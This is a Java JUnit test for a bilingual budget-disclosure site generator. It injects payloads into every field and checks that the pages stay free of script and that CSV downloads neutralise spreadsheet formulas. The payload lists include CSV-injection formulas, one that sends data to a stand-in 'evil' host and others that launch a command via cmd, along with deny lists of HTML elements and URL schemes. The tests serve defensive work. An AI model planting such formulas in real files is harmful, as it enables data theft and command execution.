package org.gongkai.disclosure.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import org.gongkai.disclosure.testing.ContentFixture;
import org.gongkai.disclosure.testing.SiteFixture;

/**
 * Every text a declaration holds, in both languages and in Markdown, filled with one hostile payload at a time: the
 * pages must hold no executable markup (checked on the parsed output, not by searching the source), must carry the
 * strict Content-Security-Policy and satisfy it (no inline scripts or styles), and must show the payload as text.
 * Every cell of every CSV download, parsed, must reach a spreadsheet as text, never as a formula.
 */
class InjectionTest {

    /**
     * Spreadsheet formulas, which a CSV download must not let run: an outside attack's, their full-width forms
     * (which a spreadsheet may take for the ASCII ones), and behind white space, which a spreadsheet skips.
     */
    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1+1",
            "＝HYPERLINK(\"http://evil/?\"&A1,\"x\")", "＠SUM(1+1)*cmd|' /C calc'!A0", "－2+3+cmd|' /C calc'!A0",
            "＋1+1", " =1+1", "\t@SUM(1+1)", "\r-2+3", "\n+1+1", "\u3000=1+1", "\u00A0@SUM(1+1)", "\u2003－2+3",
            "\u2028=1+1", "\r\n=1+1", "\tx", "\rx");

    static Stream<String> payloads() {
        return Stream.concat(MutatedDeclarationProperties.PAYLOADS.stream(), FORMULAS.stream());
    }

    /** A YAML double-quoted string holding exactly {@code text}. */
    private static String quoted(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                case '\t' -> out.append("\\t");
                case '\r' -> out.append("\\r");
                case '\n' -> out.append("\\n");
                // YAML reads NEL and the Unicode separators as line breaks: escaped, every space arrives as written.
                default -> out.append(c < ' ' || c == '\u0085' || (Character.isSpaceChar(c) && c != ' ')
                        ? String.format("\\u%04x", (int) c) : String.valueOf(c));
            }
        }
        return out.append('"').toString();
    }

    private static String text(String payload) {
        return "{zh: " + quoted("样例" + payload) + ", en: " + quoted("Sample " + payload) + "}";
    }

    /** A block-style bilingual Markdown section around the payload: in a paragraph, a link and a list. */
    private static String markdown(String payload) {
        String zh = "第一段 " + payload + "\n\n- 列表 " + payload + "\n- [链接](" + payload + ")\n";
        String en = "First " + payload + "\n\n- item " + payload + "\n- [link](" + payload + ")\n";
        return "\n    zh: " + quoted(zh) + "\n    en: " + quoted(en);
    }

    private static ContentFixture content(Path project, String payload) {
        ContentFixture content = ContentFixture.empty(project);
        content.write("declaration.yaml", "fiscal-year: 2024\n"
                + "unit: " + text(payload) + "\n"
                + "title: " + text(payload) + "\n"
                + "summary: " + text(payload) + "\n");
        // The glossary gives English to units and terms: they reach the pages and the downloads from there.
        content.write("glossary.yaml", "units:\n  样例单位: " + quoted("units " + payload) + "\n  公式单位: "
                + quoted(payload) + "\nterms:\n  样例术语: " + quoted("term " + payload) + "\n  公式术语: "
                + quoted(payload) + "\n");
        content.write("projects/01-payload.yaml", "id: payload\n"
                + "name: " + text(payload) + "\n"
                + "nature: " + text(payload) + "\n"
                + "category: " + text(payload) + "\n"
                // One text is the payload alone, so that it starts a field of the CSV downloads.
                + "department: {zh: " + quoted(payload) + ", en: " + quoted(payload) + "}\n"
                + "implementer: " + text(payload) + "\n"
                + "start: 2024-01-01\nend: 2024-12-31\n"
                + "funds: {total: 100.00, fiscal: 100.00, other: 0.00}\n"
                + "annual-funds: {total: 100.00, appropriation: 100.00, carryover: 0.00, other: 0.00}\n"
                + "sections:\n"
                + "  overview:" + markdown(payload) + "\n"
                + "  basis:" + markdown(payload) + "\n"
                + "  plan:" + markdown(payload) + "\n"
                + "  budget:" + markdown(payload) + "\n"
                + "budget-items:\n  - {name: " + text(payload) + ", amount: 100.00}\n"
                + "goals:\n  overall: " + text(payload) + "\n  annual: " + text(payload) + "\n"
                + "indicators:\n"
                + "  - {level1: 成本指标, level2: 经济成本指标, name: " + text(payload) + ", target: " + text(payload) + "}\n"
                + "  - {level1: 产出指标, level2: 数量指标, name: " + text(payload) + ", target: " + quoted("=1(样例单位)") + "}\n"
                + "  - {level1: 效益指标, level2: 社会效益指标, name: " + text(payload) + ", target: 样例术语}\n"
                + "  - {level1: 满意度指标, level2: 服务对象满意度指标, name: " + text(payload) + ", target: \"≥90%\"}\n");
        content.write("projects/02-alone.yaml", aloneProject(payload));
        return content;
    }

    /**
     * A project whose every free text, in both languages, is the payload alone, so that it starts a cell of the CSV
     * downloads in each column that can take it: names, department, indicators, targets in English and units.
     */
    private static String aloneProject(String payload) {
        String alone = "{zh: " + quoted(payload) + ", en: " + quoted(payload) + "}";
        return "id: alone\n"
                + "name: " + alone + "\nnature: " + alone + "\ncategory: " + alone + "\ndepartment: " + alone
                + "\nimplementer: " + alone + "\n"
                + "start: 2024-01-01\nend: 2024-12-31\n"
                + "funds: {total: 100.00, fiscal: 100.00, other: 0.00}\n"
                + "annual-funds: {total: 100.00, appropriation: 100.00, carryover: 0.00, other: 0.00}\n"
                + "sections:\n"
                + "  overview:" + markdown(payload) + "\n"
                + "  basis:" + markdown(payload) + "\n"
                + "  plan:" + markdown(payload) + "\n"
                + "  budget:" + markdown(payload) + "\n"
                + "budget-items:\n  - {name: " + alone + ", amount: 100.00}\n"
                + "goals:\n  overall: " + alone + "\n  annual: " + alone + "\n"
                + "indicators:\n"
                // A numeric target's English as given, its unit's from the glossary; then one composed from them.
                + "  - {level1: 成本指标, level2: 经济成本指标, name: " + alone + ", target: {zh: \"=2(公式单位)\", en: "
                + quoted(payload) + "}}\n"
                + "  - {level1: 产出指标, level2: 数量指标, name: " + alone + ", target: \"=3(公式单位)\"}\n"
                + "  - {level1: 效益指标, level2: 社会效益指标, name: " + alone + ", target: 公式术语}\n"
                + "  - {level1: 满意度指标, level2: 服务对象满意度指标, name: " + alone + ", target: \"≥90%\"}\n";
    }

    private static final Set<String> FORBIDDEN_ELEMENTS = Set.of("iframe", "frame", "object", "embed", "applet", "form",
            "input", "button", "textarea", "style", "base", "img", "video", "audio", "source", "math");
    private static final Set<String> URL_ATTRIBUTES = Set.of("href", "src", "action", "formaction", "data", "xlink:href",
            "poster", "srcset", "background", "cite");
    private static final String POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
            + "font-src 'self'; connect-src 'self'; base-uri 'self'; form-action 'self'";

    @ParameterizedTest
    @MethodSource("payloads")
    void noPayloadBecomesExecutableAndEveryPageKeepsTheStrictPolicy(String payload, @TempDir Path project)
            throws Exception {
        SiteFixture site = new SiteFixture(content(project, payload)).generated();

        List<String> pages = site.htmlPages();
        assertThat(pages).contains("zh/projects/payload.html", "en/projects/payload.html");
        for (String path : pages) {
            Document page = site.page(path);
            Element policy = page.head().selectFirst("meta[http-equiv=Content-Security-Policy]");
            assertThat(policy).as("policy of %s", path).isNotNull();
            assertThat(policy.attr("content")).isEqualTo(POLICY);
            assertThat(policy.elementSiblingIndex()).as("the policy comes before anything it governs").isEqualTo(1);
            for (Element script : page.select("script")) {
                assertThat(script.attr("src")).as("script in %s", path).matches("(\\.\\./)*assets/(site|search|indicators)\\.js");
                assertThat(script.data()).isEmpty();
            }
            // The only forms are the site's own search box, which leads to the site's index, and the 404 page's.
            Element box = page.selectFirst("div.site-search");
            if (box != null) {
                assertThat(box.select("form").eachAttr("action")).as(path).containsExactly(
                        path.replaceAll("[^/]+/", "../").replaceAll("[^/]+$", "") + path.substring(0, 2) + "/index.html");
                assertThat(box.select("input").eachAttr("type")).containsExactly("search");
                assertThat(box.select("button").eachAttr("type")).containsExactly("submit", "button");
                box.remove();
            }
            // The 404 page's own searches, one a language, lead to that language's index.
            for (Element form : page.select("form.notfound-search")) {
                assertThat(path).isEqualTo("404.html");
                assertThat(form.attr("action")).isIn("zh/index.html", "en/index.html");
                assertThat(form.select("input").eachAttr("type")).containsExactly("search");
                assertThat(form.select("button").eachAttr("type")).containsExactly("submit");
                form.remove();
            }
            for (Element link : page.select("link")) {
                assertThat(link.attr("rel")).as("link in %s", path).isIn("stylesheet", "alternate", "icon");
            }
            for (Element meta : page.select("meta[http-equiv]")) {
                assertThat(meta).isSameAs(policy);
            }
            for (Element element : page.getAllElements()) {
                assertThat(FORBIDDEN_ELEMENTS).as("<%s> in %s", element.tagName(), path).doesNotContain(element.tagName());
                for (Attribute attribute : element.attributes()) {
                    String name = attribute.getKey().toLowerCase(Locale.ROOT);
                    assertThat(name).as("attribute in %s", path).doesNotStartWith("on").isNotEqualTo("style")
                            .isNotEqualTo("srcdoc");
                    if (URL_ATTRIBUTES.contains(name)) {
                        String url = attribute.getValue().strip().toLowerCase(Locale.ROOT).replaceAll("[\\s\\x00-\\x1f]", "");
                        assertThat(url).as("%s=%s in %s", name, attribute.getValue(), path)
                                .doesNotStartWith("javascript:").doesNotStartWith("vbscript:").doesNotStartWith("data:")
                                .doesNotStartWith("//");
                    }
                }
            }
        }

        // A plain text shows the payload as the text it is, in both languages (jsoup's text collapses white space).
        assertThat(site.page("zh/projects/payload.html").selectFirst("h1").text()).isEqualTo(collapsed("样例" + payload));
        assertThat(site.page("en/projects/payload.html").selectFirst("h1").text()).isEqualTo(collapsed("Sample " + payload));
        assertThat(site.page("en/projects/payload.html").select(".prose").text()).startsWith("First ");

        // The search index holds it as JSON strings inside scripts that only hand data over: no text ends a string.
        JsonNode described = null;
        for (var file : site.tree().entrySet()) {
            if (file.getKey().startsWith("search/")) {
                String text = new String(file.getValue(), StandardCharsets.UTF_8);
                var call = java.util.regex.Pattern.compile("(?s)GongkaiSearch\\.put\\(\"([a-z0-9/-]+)\",(.*)\\);\\n")
                        .matcher(text);
                assertThat(call.matches()).as(file.getKey()).isTrue();
                assertThat(file.getKey()).isEqualTo("search/" + call.group(1) + ".js");
                JsonNode data = new ObjectMapper().readTree(call.group(2));
                assertThat(text).as(file.getKey()).doesNotContain("<").doesNotContain("\u2028").doesNotContain("\u2029");
                if (file.getKey().equals("search/docs/0.js")) {
                    described = data;
                }
            }
        }
        assertThat(described.at("/docs/0/1").asText()).isEqualTo("样例" + payload);
        assertThat(described.at("/docs/0/2").asText()).isEqualTo("Sample " + payload);

        // The downloads keep it exactly, and a spreadsheet opening the CSV sees text, not a formula.
        JsonNode json = new ObjectMapper().readTree(site.tree().get("data/disclosure.json"));
        assertThat(json.findValuesAsText("zh")).contains("样例" + payload);
        assertNoCellOfAnyCsvFileOpensAFormula(site);
        String cell = FORMULAS.contains(payload) ? "'" + payload : payload;
        CSVRecord alone = csv(site, "data/projects.csv").get(1);
        for (String column : List.of("name", "nature", "category", "department", "implementer")) {
            assertThat(alone.get(column + "_zh")).as(column + "_zh").isEqualTo(cell);
            assertThat(alone.get(column + "_en")).as(column + "_en").isEqualTo(cell);
        }
        List<CSVRecord> indicators = csv(site, "data/indicators.csv").stream()
                .filter(r -> r.get("project_id").equals("alone")).toList();
        assertThat(indicators).extracting(r -> r.get("name_zh")).containsExactly(cell, cell, cell, cell);
        assertThat(indicators).extracting(r -> r.get("name_en")).containsExactly(cell, cell, cell, cell);
        assertThat(indicators).extracting(r -> r.get("target_zh"))
                .containsExactly("'=2(公式单位)", "'=3(公式单位)", "公式术语", "≥90%");
        // The glossary strips a term's English: the qualitative target reads the payload without its white space.
        String term = payload.strip();
        assertThat(indicators).extracting(r -> r.get("target_en")).containsExactly(cell, "'= 3 " + payload,
                opensAFormula(term) ? "'" + term : term, "≥ 90 %");
        assertThat(indicators).extracting(r -> r.get("unit_en")).containsExactly(cell, cell, "", "%");
    }

    /** A target as filed, in both languages, and the unit the loader reads in it (null for none). */
    private record Filed(String target, String unit) {
    }

    /**
     * Targets that a filing can hold and that start like a formula: numeric ones with a formula for a unit, and
     * texts. (A target that starts with = and is not a number, such as =HYPERLINK(…), is refused by the loader; a
     * unit with a digit or a minus sign is not read as one, so =5(=cmd|' /C calc'!A0) is refused too.)
     */
    private static final List<Filed> FORMULA_TARGETS = List.of(new Filed("=5(=cmd|' /C calc'!A)", "=cmd|' /C calc'!A"),
            new Filed("=5(@SUM)", "@SUM"), new Filed("=5(+cmd|' /C calc'!A)", "+cmd|' /C calc'!A"),
            new Filed("@SUM(1+1)*cmd|' /C calc'!A0", null), new Filed("-2+3+cmd|' /C calc'!A0", null),
            new Filed("+1+1", null), new Filed("＠SUM(1+1)*cmd|' /C calc'!A0", null),
            new Filed("－2+3+cmd|' /C calc'!A0", null), new Filed("＋1+1", null), new Filed("\u3000@SUM(1+1)", null),
            new Filed(" -2+3", null), new Filed("\t+1+1", null), new Filed("\r@SUM(1+1)", null));

    @Test
    void targetsAndUnitsFiledAsFormulasReachEveryCsvFileAsText(@TempDir Path project) throws Exception {
        ContentFixture content = ContentFixture.minimal(project);
        StringBuilder indicators = new StringBuilder(content.read(ContentFixture.PROJECT));
        for (Filed filed : FORMULA_TARGETS) {
            indicators.append("  - {level1: 产出指标, level2: 数量指标, name: {zh: 指标, en: Indicator}, target: {zh: ")
                    .append(quoted(filed.target())).append(", en: ").append(quoted(filed.target())).append("}}\n");
        }
        SiteFixture site = new SiteFixture(content.write(ContentFixture.PROJECT, indicators.toString())).generated();

        assertNoCellOfAnyCsvFileOpensAFormula(site);
        List<CSVRecord> rows = csv(site, "data/indicators.csv");
        List<CSVRecord> filed = rows.subList(rows.size() - FORMULA_TARGETS.size(), rows.size());
        List<String> targets = FORMULA_TARGETS.stream().map(f -> "'" + f.target()).toList();
        List<String> units = FORMULA_TARGETS.stream().map(f -> f.unit() == null ? "" : "'" + f.unit()).toList();
        assertThat(filed).extracting(r -> r.get("target_zh")).containsExactlyElementsOf(targets);
        assertThat(filed).extracting(r -> r.get("target_en")).containsExactlyElementsOf(targets);
        assertThat(filed).extracting(r -> r.get("unit_zh")).containsExactlyElementsOf(units);
        assertThat(filed).extracting(r -> r.get("unit_en")).containsExactlyElementsOf(units);
    }

    /** Every cell of every CSV file of the site, parsed: none would run as a formula unless it is a plain number. */
    private static void assertNoCellOfAnyCsvFileOpensAFormula(SiteFixture site) throws IOException {
        List<String> files = site.tree().keySet().stream().filter(path -> path.endsWith(".csv")).toList();
        assertThat(files).containsExactly("data/changes.csv", "data/indicators.csv", "data/projects.csv");
        for (String file : files) {
            for (CSVRecord record : csv(site, file)) {
                record.toMap().forEach((column, cell) -> assertThat(opensAFormula(cell))
                        .as("%s line %d, %s: %s", file, record.getRecordNumber() + 1, column, cell).isFalse());
            }
        }
    }

    /**
     * Whether a spreadsheet would take the cell for a formula: a tab or a carriage return first, or = + - @ (ASCII or
     * full-width) after any white space, unless the whole cell is a plain number.
     */
    private static boolean opensAFormula(String cell) {
        String start = cell.replaceFirst("^\\p{IsWhite_Space}+", "");
        boolean opens = cell.startsWith("\t") || cell.startsWith("\r")
                || (!start.isEmpty() && "=+-@＝＋－＠".indexOf(start.charAt(0)) >= 0);
        return opens && !cell.matches("-?[0-9]+(\\.[0-9]+)?");
    }

    /** A CSV download parsed with its header, after checking its byte-order mark. */
    private static List<CSVRecord> csv(SiteFixture site, String path) throws IOException {
        byte[] bytes = site.tree().get(path);
        assertThat(bytes).as(path).startsWith((byte) 0xEF, (byte) 0xBB, (byte) 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        try (CSVParser parser = CSVParser.parse(text, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true)
                .get())) {
            return parser.getRecords();
        }
    }

    /** The text as jsoup's {@code text()} gives it: white space, no-break spaces included, collapsed to one space. */
    private static String collapsed(String text) {
        return text.replaceAll("[\\s\u00A0]+", " ").strip();
    }
}
